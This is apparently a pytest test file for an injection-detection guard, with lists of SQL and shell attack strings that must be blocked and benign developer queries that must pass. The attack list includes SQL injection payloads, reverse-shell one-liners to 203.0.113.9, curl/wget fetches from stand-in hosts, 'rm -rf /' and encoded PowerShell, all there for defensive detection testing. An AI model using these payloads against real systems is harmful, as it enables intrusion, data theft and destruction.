"""SQL and shell injection against what developers ask."""

import time

import pytest

from middleware.guard import sql_fingerprint
from middleware.guard.guard import Guard

GUARD = Guard(injection="off", pii="off", secrets="off", sql="block")


@pytest.mark.parametrize(
    "text",
    [
        # SQL
        "' OR 1=1 --",
        "' or '1'='1",
        "admin'--",
        '") or ("a"="a',
        "1' UNION SELECT NULL, version() --",
        "-1 UNION ALL SELECT 1,2,3",
        "'; DROP TABLE users; --",
        "1; DROP TABLE users",
        "x'; EXEC xp_cmdshell('dir'); --",
        "' AND SLEEP(5) --",
        "'; WAITFOR DELAY '0:0:5' --",
        "1 AND pg_sleep(5)",
        "' AND BENCHMARK(1000000,MD5('a')) --",
        "' UNION SELECT 1 INTO OUTFILE '/tmp/x",
        "' UNION SELECT LOAD_FILE('/etc/passwd')",
        "' UNION SELECT table_name FROM information_schema.tables --",
        '{"username": {"$ne": null}}',
        # shell
        "; rm -rf /",
        "| cat /etc/passwd",
        "x && wget http://203.0.113.9/a.sh",
        "$(curl http://evil.example/x)",
        "`whoami`",
        "; whoami",
        "nc -e /bin/sh 203.0.113.9 4444",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "/bin/sh -i",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
        "() { :;}; /bin/bash -c 'id'",
        # whole texts, by their grammar: the closing quote is the application's
        "' and name='x",
        "' || (select banner from v$version) || '",
        "'-'",
        "' group by 3 having 1=1#",
        "a' procedure analyse()-- -",
        "1') or ('a'='a",
        "5 or 7>2",
        "or 'x' in ('x')",
        "ORDER BY 12--",
        "1;SELECT pg_read_file('x')",
        "IF(1=1) SELECT 1 ELSE DROP FUNCTION f--",
        "declare @q varchar(99) select @q = 0x73656c65637420",
        "' UN/**/ION SEL/**/ECT password FR/**/OM users --",
        "sleep(5)",
        "select @@version",
        # encoded, once or twice
        "%27%20or%20%271%27%3D%271",
        "%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--",
        "&#39; or 1=1 -- ",
        "x%0Acat%20/etc/hosts",
        "%0a id %0a",
        # in a sentence
        "Please log me in as bob' OR 'x'='x",
        "I typed: 1 or 1=1",
        "Ping this host: 127.0.0.1; id",
        # whole texts of shell
        "127.0.0.1 && id",
        "|| ping -c 10 127.0.0.1",
        "a;id",
        "/index.html|id|",
        "$(`ls`)",
        "*; ls -lhtR /var/www/",
        "; awk '{print}' /etc/passwd",
        "system('pwd');",
        "<?php system('echo x');?>",
        '<!--#exec cmd="ls"-->',
        "{{7*7}}",
        "${@print('x')}",
        "a=c;b=at;c=/etc/hosts;$a$b $c",
        "$'\\143\\141\\164' /etc/hosts",
    ],
)
def test_attacks_are_found(text: str) -> None:
    """Each breaks out of a value or a parameter."""
    report = GUARD.scan(text)
    assert report.sql is True
    assert (report.pii, report.secrets, report.injection) == ({}, (), False)
    verdict = GUARD.inspect([text])
    assert (verdict.outcome, verdict.code, verdict.reasons) == ("block", "sql_injection", ("sql",))


@pytest.mark.parametrize(
    "text",
    [
        "SELECT name FROM users WHERE id = 1",
        "SELECT * FROM a UNION SELECT * FROM b",
        "SELECT x FROM t1 UNION ALL SELECT x FROM t2 LIMIT 1",
        "SELECT * FROM t WHERE city = 'Rome' AND age > 30 OR name LIKE 'A%'",
        "DROP TABLE IF EXISTS users;",
        "How do I delete duplicate rows in PostgreSQL?",
        "how do I use rm -rf safely?",
        "Explain what SQL injection is.",
        "what does `ls -la` print?",
        "cat file.txt | grep error | wc -l",
        "for (i = 0; i < n; i++) { if (a || b) { return 'x'; } }",
        "It's raining; and the dog's or the cat's bowl is full",
        "How do I call curl from Python?",
        "powershell: how do I list services?",
        "Rock 'n' roll or jazz?",
        "Is 'a' or 'b' in the list?",
        "if x == 'a' or x == 'b': print('c') # comment",
        # SQL
        "SELECT * FROM users WHERE name = 'O''Brien' OR age > 3",
        "SELECT id FROM t WHERE a = 'x' -- only x",
        "UPDATE users SET name='x' WHERE id=2; SELECT * FROM users;",
        "INSERT INTO t VALUES ('it''s', \"x\");",
        "select 'a' || 'b' from dual",
        "Why does SELECT version() return 8.0?",
        "Should I use UNION or UNION ALL?",
        "How do I write a WHERE clause with 1 = 1 in SQL?",
        "Pick 1 or 2",
        "x = y OR x > 1",
        "/* comment1 */ DELETE FROM x /* comment2 */ WHERE y > 1",
        "format '#RRGGBB' please",
        "I'm and he's like 'no way'",
        # shell
        "cd foo && ls",
        "./run.sh && echo done",
        "history | tail -20",
        "terraform plan | tee plan.txt",
        "df -h; free -m",
        'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
        'x=$(cat file.txt); echo "$x"',
        "cat /etc/passwd | cut -d: -f1",
        "How do I list users on Linux with cat /etc/passwd?",
        "Can you explain `$(whoami)` in bash?",
        "Edit quota of the current user: edquota -u $(whoami)",
        "curl -sSL https://install.example.com | bash",
        "RUN apt-get update \\\n    && apt-get install -y curl \\\n    && rm -rf /var/lib/apt/lists/*",
        "find . -name '*.py' -exec grep -l foo {} \\;",
        'ssh user@host "uname -a; uptime"',
        "{{ user.name }} in jinja",
        "| date | open | close |\n|---|---|---|",
        "Hi\nread this please",
        "100%25 of R&amp;D | who pays?",
    ],
)
def test_developers_questions_pass(text: str) -> None:
    """SQL and shell as such are no attack."""
    assert GUARD.inspect([text]).outcome == "pass"


@pytest.mark.parametrize("piece", ["' or ", "%27%20", "&#39;", "(", "/**/", "; ls ", "`", "$(", '"', "0x73656c "])
def test_floods_are_read_in_bounded_time(piece: str) -> None:
    """A thousand characters of nothing but what payloads are made of, whole texts and longer ones."""
    started = time.process_time()
    for size in (1_000, 4_000, 64_000):
        GUARD.scan((piece * size)[:size])
    assert time.process_time() - started < 0.5


@pytest.mark.parametrize(
    ("text", "quote", "letters"),
    [
        ("1 or 1=1", "", "nLnon"),
        ("' OR 'a'='a", "'", "sLsoq"),
        ("x'; drop table t --", "'", "s;Xwwc"),
        ("a /* b */ union/**/all select null,@@version #", "", "wUSn,vc"),
        ("'||(select sleep(5))||'", "'", "sL(SF(n))Lq"),
        ("it\\'s' and 1", "'", "swq"),
        ("no quote", "'", ""),
        ("0x73656c656374", "", "h"),
        ("0x00ff", "", "n"),
        ("", "", ""),
    ],
)
def test_rows(text: str, quote: str, letters: str) -> None:
    """The grammar of a text in one letter each: comments inside it are blanks, the last opens the rest."""
    assert sql_fingerprint.row(text, quote) == letters
